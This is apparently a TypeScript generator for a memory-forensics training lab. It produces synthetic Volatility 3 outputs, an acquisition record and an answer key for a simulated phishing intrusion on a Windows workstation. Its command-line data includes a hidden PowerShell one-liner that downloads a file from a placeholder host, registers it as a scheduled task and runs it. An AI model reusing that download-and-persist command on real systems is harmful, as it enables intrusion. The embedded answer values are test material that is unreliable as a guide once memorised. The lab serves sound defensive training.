import type { VariantGenerator } from '../../server/labs/variants.ts';

/*
 * Variant generator of the lab "Memory triage of a compromised workstation".
 *
 * From the seed it writes what an examiner hands an investigator after a live memory capture of a
 * Windows 11 workstation and its analysis with Volatility 3: the acquisition and analysis record
 * (image hash, tools and versions, windows.info, custody) and the plugins' CSV exports
 * (windows.pslist, windows.cmdline, windows.netscan, windows.malfind, windows.dlllist excerpts) with
 * the examiner's hash list of the files dumped from the image.
 * Per seed: the user and host, every PID, the disguised process's name and folder, the download host,
 * the scheduled task, the addresses, the process the code was injected into, the times and hashes.
 * Traps: a legitimate svchost.exe started by services.exe minutes after the intrusion with a benign
 * update connection, the examiner's own acquisition tool run from a USB stick, browser and .NET JIT
 * regions in malfind, and a process dump whose hash is not the file's.
 * Volatility writes times in UTC (ISO 8601 with +00:00); the workstation's clock is UTC+01:00.
 * Only context.random is used.
 */

/** Seconds from 2026-11-24 00:00:00 UTC. */
const BASE = Date.UTC(2026, 10, 24, 0, 0, 0);
const LOCAL_OFFSET_HOURS = 1;
const wall = (seconds: number, offsetHours: number): string =>
  new Date(BASE + (seconds + offsetHours * 3600) * 1000).toISOString().slice(0, 19).replace('T', ' ');
/** As Volatility 3's CSV renderer writes a time: ISO 8601 in UTC with its offset. */
const vol = (seconds: number): string => `${wall(seconds, 0).replace(' ', 'T')}+00:00`;
const iso = (seconds: number): string => `${wall(seconds, 0).replace(' ', 'T')}Z`;
const local = (seconds: number): string => wall(seconds, LOCAL_OFFSET_HOURS);

/** A CSV field as Volatility's CSV renderer writes text: always in double quotes. */
const q = (text: string): string => `"${text.replace(/"/gu, '""')}"`;
const csvLine = (...fields: (string | number)[]): string =>
  fields.map((field) => (typeof field === 'number' ? String(field) : field)).join(',');

const USERS = [
  { login: 'm.lindqvist', name: 'Maja Lindqvist' },
  { login: 'a.okonkwo', name: 'Adaeze Okonkwo' },
  { login: 'j.verhoeven', name: 'Joris Verhoeven' },
  { login: 's.castellano', name: 'Sara Castellano' },
  { login: 't.nakamura', name: 'Taro Nakamura' },
  { login: 'l.brandt', name: 'Lotte Brandt' },
];
const FAKE_NAMES = ['svchost.exe', 'svchost.exe', 'scvhost.exe', 'svch0st.exe', 'svchosts.exe'];
const DOWNLOAD_DOMAINS = [
  'doc-preview.example',
  'invoice-viewer.test',
  'quickshare-files.example',
  'officecloud-sync.test',
];
const TASK_NAMES = ['ShellCacheRefresh', 'UserFeedCleanup', 'DriverStoreMaint', 'FontCacheSync', 'ProfileSvcUpdate'];
const DOCUMENTS = ['Invoice_', 'Statement_', 'Remittance_', 'Order_'];

const generate: VariantGenerator = ({ random }) => {
  const user = random.pick(USERS);
  const host = `BWS-WS-${random.int(11, 68)}`;
  const lanIp = `10.44.${random.int(2, 9)}.${random.int(20, 200)}`;

  // ---- PIDs: multiples of four, unique ----
  const used = new Set<number>([0, 4]);
  const pid = (min: number, max: number): number => {
    for (;;) {
      const value = random.int(min / 4, max / 4) * 4;
      if (!used.has(value)) {
        used.add(value);
        return value;
      }
    }
  };
  const offset = () => `0x${random.pick(['c60f', 'd28a', 'e50b', 'b71c'])}${random.hex(6)}080`;

  // ---- Timeline ----
  const boot = 7 * 3600 + random.int(35, 55) * 60 + random.int(0, 59);
  const logon = boot + random.int(3, 9) * 60 + random.int(0, 59);
  const wordStart = logon + random.int(25, 80) * 60 + random.int(0, 59);
  const psStart = wordStart + random.int(8, 50);
  const fakeStart = psStart + random.int(6, 40);
  const decoyStart = fakeStart + random.int(3, 25) * 60 + random.int(0, 59);
  const capture = fakeStart + random.int(55, 95) * 60 + random.int(0, 59);
  const cmdStart = capture - random.int(60, 150);

  interface Proc {
    pid: number;
    ppid: number;
    name: string;
    start: number;
    session: number | 'N/A';
    threads: number;
    handles: number | 'N/A';
    args: string;
    offset: string;
  }
  const procs: Proc[] = [];
  const add = (
    name: string,
    ppid: number,
    start: number,
    args: string,
    options: { pid?: number; session?: number | 'N/A'; threads?: number } = {},
  ): Proc => {
    const proc: Proc = {
      pid: options.pid ?? (start < logon ? pid(100, 1800) : pid(2000, 14_000)),
      ppid,
      name,
      start,
      session: options.session ?? (start < logon ? 0 : 1),
      threads: options.threads ?? random.int(2, 30),
      handles: random.int(80, 1400),
      args,
      offset: offset(),
    };
    procs.push(proc);
    return proc;
  };
  const sys32 = 'C:\\Windows\\System32';
  const notValid = (address: string) => `Required memory at ${address} is not valid (process exited?)`;

  // Boot: the session manager's children have exited, so csrss.exe, wininit.exe and winlogon.exe name
  // parents that are not in the list. That is normal.
  const system = add('System', 0, boot, notValid('0x20'), { pid: 4, session: 'N/A', threads: random.int(150, 260) });
  add('Registry', 4, boot - 4, notValid('0x20'), { session: 'N/A', threads: 4 });
  add('smss.exe', 4, boot + 1, '\\SystemRoot\\System32\\smss.exe', { session: 'N/A' });
  const goneSmss0 = pid(300, 900);
  const goneSmss1 = pid(300, 900);
  add(
    'csrss.exe',
    goneSmss0,
    boot + 3,
    `%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16`,
  );
  const wininit = add('wininit.exe', goneSmss0, boot + 3, 'wininit.exe');
  add(
    'csrss.exe',
    goneSmss1,
    boot + 3,
    `%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16`,
    { session: 1 },
  );
  const winlogon = add('winlogon.exe', goneSmss1, boot + 3, 'winlogon.exe', { session: 1 });
  const services = add('services.exe', wininit.pid, boot + 4, `${sys32}\\services.exe`);
  const lsass = add('lsass.exe', wininit.pid, boot + 4, `${sys32}\\lsass.exe`);
  add('fontdrvhost.exe', wininit.pid, boot + 4, '"fontdrvhost.exe"');
  const svchostGroups = [
    '-k DcomLaunch -p',
    '-k RPCSS -p',
    '-k LocalServiceNoNetwork -p',
    '-k netsvcs -p -s Schedule',
    '-k LocalService -p -s EventSystem',
    '-k NetworkService -p -s Dnscache',
    '-k LocalSystemNetworkRestricted -p -s SysMain',
    '-k netsvcs -p -s Winmgmt',
    '-k LocalServiceNetworkRestricted -p -s Dhcp',
    '-k UnistackSvcGroup',
  ];
  const svchosts = svchostGroups.map((group, index) =>
    add('svchost.exe', services.pid, boot + 5 + index, `${sys32}\\svchost.exe ${group}`),
  );
  const dcomLaunch = svchosts[0]!;
  const rpcss = svchosts[1]!;
  const scheduleHost = svchosts[3]!;
  add(
    'MsMpEng.exe',
    services.pid,
    boot + 18,
    '"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24090.11-0\\MsMpEng.exe"',
  );
  add('spoolsv.exe', services.pid, boot + 20, `${sys32}\\spoolsv.exe`);
  add('dwm.exe', winlogon.pid, boot + 5, '"dwm.exe"', { session: 1 });

  // Logon: userinit.exe started explorer.exe and exited, so explorer's parent is missing too.
  const goneUserinit = pid(2000, 6000);
  const profile = `C:\\Users\\${user.login}`;
  const explorer = add('explorer.exe', goneUserinit, logon + 8, 'C:\\Windows\\Explorer.EXE');
  const sihost = add('sihost.exe', scheduleHost.pid, logon + 4, 'sihost.exe');
  const runtimeBroker = add('RuntimeBroker.exe', dcomLaunch.pid, logon + 40, `${sys32}\\RuntimeBroker.exe -Embedding`);
  add('taskhostw.exe', scheduleHost.pid, logon + 5, 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}');
  add('SecurityHealthSystray.exe', explorer.pid, logon + 30, `"${sys32}\\SecurityHealthSystray.exe"`);
  const nimbus = add(
    'NimbusDrive.exe',
    explorer.pid,
    logon + 32,
    `"${profile}\\AppData\\Local\\NimbusDrive\\NimbusDrive.exe" /background --sync https://sync.nimbusdrive.example`,
  );
  const outlook = add(
    'OUTLOOK.EXE',
    explorer.pid,
    logon + random.int(60, 300),
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
  );
  const edge = add(
    'msedge.exe',
    explorer.pid,
    logon + random.int(300, 900),
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --profile-directory=Default',
  );
  const edgeRenderer = add(
    'msedge.exe',
    edge.pid,
    edge.start + 2,
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer --lang=en-GB --renderer-client-id=7',
  );
  add(
    'msedge.exe',
    edge.pid,
    edge.start + 1,
    '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService',
  );

  // The intrusion: an attachment opened from Outlook, a macro starting PowerShell, which downloads a
  // file into the user's Temp folder, registers it as a scheduled task and starts it.
  const fakeName = random.pick(FAKE_NAMES);
  const tempDir = `${profile}\\AppData\\Local\\Temp\\${random.hex(8)}`;
  const fakePath = `${tempDir}\\${fakeName}`;
  const domain = `dl${random.int(2, 9)}.${random.pick(DOWNLOAD_DOMAINS)}`;
  const urlPath = `/s/${random.hex(10)}/upd.bin`;
  const taskName = `${random.pick(TASK_NAMES)}${random.int(2, 9)}`;
  const documentName = `${random.pick(DOCUMENTS)}${random.int(20_000, 89_999)}.docm`;
  const cacheDir = random.hex(8).toUpperCase();
  const word = add(
    'WINWORD.EXE',
    outlook.pid,
    wordStart,
    `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${cacheDir}\\${documentName}" /o ""`,
  );
  const powershell = add(
    'powershell.exe',
    word.pid,
    psStart,
    `powershell.exe -NoP -W Hidden -C "$d='${tempDir}';New-Item -ItemType Directory $d -Force|Out-Null;iwr -UseBasicParsing -Uri 'http://${domain}${urlPath}' -OutFile ($d+'\\${fakeName}');schtasks /create /f /sc onlogon /rl limited /tn '${taskName}' /tr ($d+'\\${fakeName} -k netsvcs');Start-Process ($d+'\\${fakeName}') -ArgumentList '-k netsvcs'"`,
  );
  add('conhost.exe', powershell.pid, psStart + 1, `\\??\\${sys32}\\conhost.exe 0xffffffff -ForceV1`);
  const fake = add(fakeName, powershell.pid, fakeStart, `"${fakePath}" -k netsvcs`);

  // A legitimate svchost.exe started minutes later by services.exe (Windows Update, trigger-started).
  const decoy = add('svchost.exe', services.pid, decoyStart, `${sys32}\\svchost.exe -k netsvcs -p -s wuauserv`, {
    session: 0,
  });

  // The examiner's capture, from a USB stick, with the console it ran in.
  const cmd = add('cmd.exe', explorer.pid, cmdStart, `"${sys32}\\cmd.exe"`);
  add('conhost.exe', cmd.pid, cmdStart + 1, `\\??\\${sys32}\\conhost.exe 0xffffffff -ForceV1`);
  const acquire = add(
    'rlacquire64.exe',
    cmd.pid,
    capture,
    `E:\\DFU-TOOLS\\rlacquire64.exe --format raw --output E:\\${host}_mem.raw --hash sha256`,
  );

  const target = random.pick([explorer, runtimeBroker, sihost]);

  // ---- windows.pslist and windows.cmdline ----
  const ordered = [...procs].sort((a, b) => a.start - b.start || a.pid - b.pid);
  ordered.splice(ordered.indexOf(system), 1);
  ordered.unshift(system);
  const pslist = [
    csvLine(
      ...[
        'TreeDepth',
        'PID',
        'PPID',
        'ImageFileName',
        'Offset(V)',
        'Threads',
        'Handles',
        'SessionId',
        'Wow64',
        'CreateTime',
        'ExitTime',
        'File output',
      ].map(q),
    ),
    ...ordered.map((proc) =>
      csvLine(
        0,
        proc.pid,
        proc.ppid,
        q(proc.name),
        q(proc.offset),
        proc.threads,
        proc.handles,
        typeof proc.session === 'number' ? proc.session : q(proc.session),
        q('False'),
        vol(proc.start),
        q('N/A'),
        q('Disabled'),
      ),
    ),
  ];
  const cmdline = [
    csvLine(...['TreeDepth', 'PID', 'Process', 'Args'].map(q)),
    ...ordered.map((proc) => csvLine(0, proc.pid, q(proc.name), q(proc.args))),
  ];

  // ---- windows.netscan ----
  const usedIps = new Set<string>();
  const address = (prefix: string): string => {
    for (;;) {
      const value = `${prefix}.${random.int(20, 250)}`;
      if (!usedIps.has(value) && value !== '192.0.2.10') {
        usedIps.add(value);
        return value;
      }
    }
  };
  const c2Ip = address(random.pick(['198.51.100', '203.0.113']));
  const downloadIp = address(random.pick(['198.51.100', '203.0.113']));
  const updateIp = address('192.0.2');
  const c2Port = random.pick([443, 8443, 4443]);
  const ephemeral = () => random.int(49_700, 65_000);
  interface Connection {
    proto: string;
    localAddr: string;
    localPort: number;
    foreignAddr: string;
    foreignPort: number;
    state: string;
    proc: Proc;
    created: number;
  }
  const connections: Connection[] = [];
  const listen = (proc: Proc, port: number, proto = 'TCPv4', addr = '0.0.0.0') =>
    connections.push({
      proto,
      localAddr: addr,
      localPort: port,
      foreignAddr: proto.startsWith('UDP') ? '*' : proto === 'TCPv6' ? '::' : '0.0.0.0',
      foreignPort: 0,
      state: proto.startsWith('UDP') ? '' : 'LISTENING',
      proc,
      created: proc.start + random.int(1, 20),
    });
  listen(rpcss, 135);
  listen(rpcss, 135, 'TCPv6', '::');
  listen(system, 445);
  listen(system, 445, 'TCPv6', '::');
  listen(wininit, 49_664);
  listen(lsass, 49_665);
  listen(svchosts[4]!, 49_666);
  listen(svchosts[5]!, 5353, 'UDPv4');
  listen(svchosts[5]!, 5355, 'UDPv4');
  const talk = (proc: Proc, foreignAddr: string, foreignPort: number, state: string, created: number) =>
    connections.push({
      proto: 'TCPv4',
      localAddr: lanIp,
      localPort: ephemeral(),
      foreignAddr,
      foreignPort,
      state,
      proc,
      created,
    });
  const edgeCount = random.int(3, 5);
  for (let index = 0; index < edgeCount; index++)
    talk(
      edge,
      address(random.pick(['198.51.100', '203.0.113'])),
      443,
      random.pick(['ESTABLISHED', 'ESTABLISHED', 'CLOSE_WAIT', 'TIME_WAIT']),
      edge.start + random.int(10, capture - edge.start - 30),
    );
  talk(nimbus, address('203.0.113'), 443, 'ESTABLISHED', capture - random.int(60, 600));
  talk(outlook, address('198.51.100'), 443, 'ESTABLISHED', outlook.start + random.int(5, 60));
  talk(powershell, downloadIp, 80, 'CLOSED', psStart + random.int(2, 4));
  const c2Created = fakeStart + random.int(3, 20);
  talk(fake, c2Ip, c2Port, 'ESTABLISHED', c2Created);
  talk(decoy, updateIp, 443, 'ESTABLISHED', decoyStart + random.int(5, 40));
  const netscanRows = random.shuffle(connections);
  const netscan = [
    csvLine(
      ...[
        'Offset',
        'Proto',
        'LocalAddr',
        'LocalPort',
        'ForeignAddr',
        'ForeignPort',
        'State',
        'PID',
        'Owner',
        'Created',
      ].map(q),
    ),
    ...netscanRows.map((connection) =>
      csvLine(
        q(offset()),
        q(connection.proto),
        q(connection.localAddr),
        connection.localPort,
        q(connection.foreignAddr),
        connection.foreignPort,
        q(connection.state),
        connection.proc.pid,
        q(connection.proc.name),
        vol(connection.created),
      ),
    ),
  ];

  // ---- windows.malfind ----
  const MZ = '4d 5a 90 00 03 00 00 00 04 00 00 00 ff ff 00 00';
  const region = () => {
    const start = random.int(0x1a0, 0x7ff) * 0x10000;
    return { start: `0x${start.toString(16)}`, end: `0x${(start + random.int(1, 8) * 0x1000 - 1).toString(16)}` };
  };
  interface Hit {
    proc: Proc;
    bytes: string;
    disasm: string;
    commit: number;
  }
  const hits: Hit[] = [
    {
      proc: target,
      bytes: MZ,
      disasm: '0x0: dec ebp; 0x1: pop edx; 0x2: nop; 0x3: add byte ptr [ebx], al',
      commit: random.int(28, 70),
    },
    {
      proc: edgeRenderer,
      bytes: '48 89 5c 24 08 57 48 83 ec 20 48 8b f9 e8 00 00',
      disasm: '0x0: mov qword ptr [rsp + 8], rbx; 0x5: push rdi; 0x6: sub rsp, 0x20',
      commit: random.int(1, 4),
    },
    {
      proc: edgeRenderer,
      bytes: '00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00',
      disasm: '0x0: add byte ptr [rax], al; 0x2: add byte ptr [rax], al',
      commit: 1,
    },
    {
      proc: powershell,
      bytes: 'e9 3b 2a 00 00 cc cc cc 00 00 00 00 00 00 00 00',
      disasm: '0x0: jmp 0x2a40; 0x5: int3; 0x6: int3',
      commit: random.int(1, 3),
    },
    {
      proc: procs.find((proc) => proc.name === 'MsMpEng.exe')!,
      bytes: '00 00 00 00 00 00 00 00 00 00 00 00 00 00 00 00',
      disasm: '0x0: add byte ptr [rax], al; 0x2: add byte ptr [rax], al',
      commit: 1,
    },
  ];
  const malfind = [
    csvLine(
      ...[
        'TreeDepth',
        'PID',
        'Process',
        'Start VPN',
        'End VPN',
        'Tag',
        'Protection',
        'CommitCharge',
        'PrivateMemory',
        'File output',
        'Hexdump',
        'Disasm',
      ].map(q),
    ),
    ...hits
      .sort((a, b) => a.proc.pid - b.proc.pid)
      .map((hit) => {
        const { start, end } = region();
        return csvLine(
          0,
          hit.proc.pid,
          q(hit.proc.name),
          q(start),
          q(end),
          q('VadS'),
          q('PAGE_EXECUTE_READWRITE'),
          hit.commit,
          1,
          q('Disabled'),
          q(hit.bytes),
          q(hit.disasm),
        );
      }),
  ];

  // ---- windows.dlllist excerpts: the disguised process and the legitimate svchost.exe ----
  const dll = (proc: Proc, name: string, path: string, base: string, loaded: number) =>
    csvLine(
      0,
      proc.pid,
      q(proc.name),
      q(base),
      q(`0x${random.int(0x10, 0x2a0).toString(16)}000`),
      q(name),
      q(path),
      vol(loaded),
      q('Disabled'),
    );
  const dllsOf = (proc: Proc, image: string, extras: string[]) => {
    const rows = [
      dll(proc, proc.name, image, `0x7ff${random.hex(1)}${random.int(1, 9)}${random.hex(3)}0000`, proc.start),
    ];
    const common = [
      'ntdll.dll',
      'KERNEL32.DLL',
      'KERNELBASE.dll',
      'msvcrt.dll',
      'sechost.dll',
      'RPCRT4.dll',
      ...extras,
    ];
    for (const name of common)
      rows.push(
        dll(
          proc,
          name,
          `${sys32}\\${name}`,
          `0x7ff${random.hex(1)}${random.int(1, 9)}${random.hex(3)}0000`,
          proc.start + random.int(0, 2),
        ),
      );
    return rows;
  };
  const dlllist = [
    csvLine(...['TreeDepth', 'PID', 'Process', 'Base', 'Size', 'Name', 'Path', 'LoadTime', 'File output'].map(q)),
    ...dllsOf(decoy, `${sys32}\\svchost.exe`, ['wuaueng.dll', 'WINHTTP.dll', 'CRYPT32.dll']),
    ...dllsOf(fake, fakePath, ['WS2_32.dll', 'WININET.dll', 'CRYPT32.dll', 'bcrypt.dll']),
  ];

  // ---- The examiner's hash list of the files dumped from the image ----
  const fakeFileHash = random.hex(64);
  const fakeDumpHash = random.hex(64);
  const systemSvchostFileHash = random.hex(64);
  const fileObject = () => `0x${random.pick(['c60f', 'd28a', 'e50b'])}${random.hex(6)}0${random.int(1, 9)}0`;
  const dumps = [
    {
      proc: fake,
      plugin: 'windows.pslist --dump',
      source: 'process image rebuilt from memory',
      file: `pid.${fake.pid}.0x${random.hex(4)}0000.dmp`,
      hash: fakeDumpHash,
    },
    {
      proc: fake,
      plugin: 'windows.dumpfiles --pid',
      source: `DataSectionObject of ${fakePath} (every page of the file present)`,
      file: `file.${fileObject()}.DataSectionObject.${fakeName}.dat`,
      hash: fakeFileHash,
    },
    {
      proc: decoy,
      plugin: 'windows.pslist --dump',
      source: 'process image rebuilt from memory',
      file: `pid.${decoy.pid}.0x7ff${random.hex(5)}0000.dmp`,
      hash: random.hex(64),
    },
    {
      proc: decoy,
      plugin: 'windows.dumpfiles --pid',
      source: `DataSectionObject of ${sys32}\\svchost.exe (every page of the file present)`,
      file: `file.${fileObject()}.DataSectionObject.svchost.exe.dat`,
      hash: systemSvchostFileHash,
    },
    {
      proc: target,
      plugin: 'windows.malfind --dump',
      source: 'private memory region with PAGE_EXECUTE_READWRITE',
      file: `pid.${target.pid}.vad.0x${random.hex(5)}0000.dmp`,
      hash: random.hex(64),
    },
    {
      proc: powershell,
      plugin: 'windows.pslist --dump',
      source: 'process image rebuilt from memory',
      file: `pid.${powershell.pid}.0x7ff${random.hex(5)}0000.dmp`,
      hash: random.hex(64),
    },
    {
      proc: word,
      plugin: 'windows.dumpfiles --pid',
      source: `DataSectionObject of ${documentName}`,
      file: `file.${fileObject()}.DataSectionObject.${documentName}.dat`,
      hash: random.hex(64),
    },
  ];
  const dumped = [
    csvLine(...['PID', 'Process', 'Plugin', 'Source', 'Dumped file', 'SHA-256'].map(q)),
    ...dumps.map((entry) =>
      csvLine(entry.proc.pid, q(entry.proc.name), q(entry.plugin), q(entry.source), q(entry.file), q(entry.hash)),
    ),
  ];

  // ---- Acquisition and analysis record ----
  const caseNo = `2026-1124-${random.int(100, 999)}`;
  const imageHash = random.hex(64);
  const captureEnd = capture + random.int(180, 420);
  const ticket = wordStart + random.int(12, 30) * 60 + random.int(0, 59);
  const record = [
    'REGIONAL POLICE - DIGITAL FORENSICS UNIT',
    'LIVE MEMORY ACQUISITION AND ANALYSIS RECORD',
    '',
    `Case:                 ${caseNo} (intrusion at Brightwater Land Surveyors, Harbour Road 7)`,
    `Exhibit:              BW/3  memory image of workstation ${host}`,
    'Examiner:             DC Ines Marlow, Digital Forensics Unit',
    '',
    "INCIDENT (from the firm's IT contractor, Halden IT Services)",
    `- Helpdesk ticket ${random.int(40_000, 49_999)} opened ${local(ticket)} (local time, UTC+01:00) by ${user.name}`,
    `  (${user.login}): "an invoice attachment from a supplier would not open, Word flashed and closed".`,
    '- On police advice the contractor left the workstation running, logged on and connected until',
    '  the capture; it was isolated at the firewall immediately after.',
    '',
    'WORKSTATION',
    `- Host name ${host}, Windows 11 Pro 23H2, user session of ${user.login}, LAN address ${lanIp}`,
    '- Time zone setting: (UTC+01:00) Amsterdam, Berlin, Bern, Rome, Stockholm, Vienna (standard time',
    "  in November: UTC+01:00). Clock checked against the examiner's reference clock before the",
    '  capture: difference under one second.',
    '',
    'ACQUISITION',
    "- Tool: Ravenlake Live Acquire (rlacquire64.exe) 3.2.1, run from the examiner's prepared USB",
    "  stick DFU-USB-17 (drive E:) in a console opened from the user's desktop. Running the tool",
    '  loads it into memory and changes part of the memory being captured; its process, the console',
    '  and their memory are in the image.',
    `- Started ${local(capture)} local (${wall(capture, 0)} UTC), finished ${local(captureEnd)} local (${wall(captureEnd, 0)} UTC).`,
    `  The capture took several minutes while the system kept running: the image is not a snapshot of`,
    '  one instant.',
    `- Image: ${host}_mem.raw, 17,179,869,184 bytes (16 GiB physical memory)`,
    `- SHA-256 of the image computed by the tool and again at the DFU on receipt:`,
    `  ${imageHash}  (both identical)`,
    '',
    'ANALYSIS',
    '- Volatility 3 Framework 2.7.0 on a working copy of the image (SHA-256 verified before use),',
    '  Windows symbol table ntkrnlmp.pdb/6C1A4FA0D1E5E3C5D1B4A2F3E9A3B0C1-1 downloaded by the framework.',
    '- Plugins run: windows.info, windows.pslist, windows.cmdline, windows.netscan, windows.malfind,',
    '  windows.dlllist (two processes), windows.dumpfiles and windows.pslist --dump for selected',
    '  processes. Output rendered with -r csv. Volatility writes every time in UTC.',
    '- The exported CSV files (BW/3.1 to BW/3.6) are derived from the image: they can be reproduced',
    '  from the working copy with the same framework version and symbol table.',
    '',
    'windows.info (excerpt)',
    `Variable          Value`,
    `Kernel Base       0xf80${random.hex(4)}00000`,
    'DTB               0x1ae000',
    'Symbols           file:///opt/volatility3/symbols/windows/ntkrnlmp.pdb/6C1A4FA0D1E5E3C5D1B4A2F3E9A3B0C1-1.json.xz',
    'Is64Bit           True',
    'IsPAE             False',
    'layer_name        0 WindowsIntel32e',
    `memory_layer      1 FileLayer (${host}_mem.raw)`,
    'KdVersionBlock    0xf8043fa0f400',
    'Major/Minor       15.22621',
    'MachineType       34404',
    'KeNumberProcessors 8',
    `SystemTime        ${wall(capture + random.int(20, 150), 0)}+00:00`,
    'NtSystemRoot      C:\\Windows',
    'NtProductType     NtProductWinNt',
    'NtMajorVersion    10',
    'NtMinorVersion    0',
    'PE MajorOperatingSystemVersion 10',
    'PE MinorOperatingSystemVersion 0',
    'PE Machine        34404',
    '',
    'CHAIN OF CUSTODY',
    `1. ${local(captureEnd + random.int(120, 600))} local  Image on USB stick DFU-USB-17 sealed in bag DFU-${random.int(30_000, 39_999)} by DC Ines Marlow.`,
    `2. ${wall(captureEnd + 86_400 - 3600 * 3, LOCAL_OFFSET_HOURS)} local  Bag received at the DFU evidence store, seal intact; image copied to`,
    '   the evidence server, SHA-256 verified (identical); working copy made and verified.',
    '',
  ].join('\n');

  return {
    files: {
      'evidence/acquisition-record.txt': record,
      'evidence/pslist.csv': `${pslist.join('\n')}\n`,
      'evidence/cmdline.csv': `${cmdline.join('\n')}\n`,
      'evidence/netscan.csv': `${netscan.join('\n')}\n`,
      'evidence/malfind.csv': `${malfind.join('\n')}\n`,
      'evidence/dlllist.csv': `${dlllist.join('\n')}\n`,
      'evidence/dumped-files.csv': `${dumped.join('\n')}\n`,
    },
    values: {
      user_login: user.login,
      host,
      fake_pid: fake.pid,
      fake_name: fakeName,
      fake_path: fakePath,
      fake_parent_pid: powershell.pid,
      decoy_pid: decoy.pid,
      acquire_pid: acquire.pid,
      download_domain: domain,
      download_url: `http://${domain}${urlPath}`,
      nimbus_domain: 'sync.nimbusdrive.example',
      task_name: taskName,
      task_name_path: `\\${taskName}`,
      wrong_task_name: 'Schedule',
      c2_ip: c2Ip,
      c2_port: c2Port,
      download_ip: downloadIp,
      update_ip: updateIp,
      fake_start: iso(fakeStart),
      fake_start_local: `${local(fakeStart).replace(' ', 'T')}+01:00`,
      fake_start_utc_as_local: `${wall(fakeStart, 0).replace(' ', 'T')}+01:00`,
      powershell_start: iso(psStart),
      target_pid: target.pid,
      target_name: target.name,
      edge_pid: edgeRenderer.pid,
      powershell_pid: powershell.pid,
      fake_file_hash: fakeFileHash,
      fake_dump_hash: fakeDumpHash,
      system_svchost_hash: systemSvchostFileHash,
      image_hash: imageHash,
      document_name: documentName,
      capture_utc: iso(capture),
    },
  };
};

export default generate;
